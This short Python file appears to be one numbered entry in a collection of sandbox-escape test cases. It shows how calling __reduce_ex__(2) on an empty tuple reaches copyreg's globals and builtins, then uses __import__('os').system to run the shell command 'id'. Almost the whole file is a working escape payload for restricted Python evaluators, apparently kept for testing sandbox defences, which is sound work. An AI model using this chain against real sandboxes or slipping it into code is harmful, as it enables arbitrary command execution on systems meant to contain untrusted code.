# attack-class: 7
# title: ().__reduce_ex__(2)[0].__globals__
# why: copyreg.__newobj__ is returned by __reduce_ex__ and exposes copyreg's builtins

fn = ().__reduce_ex__(2)[0]
fn.__globals__["__builtins__"]["__import__"]("os").system("id")
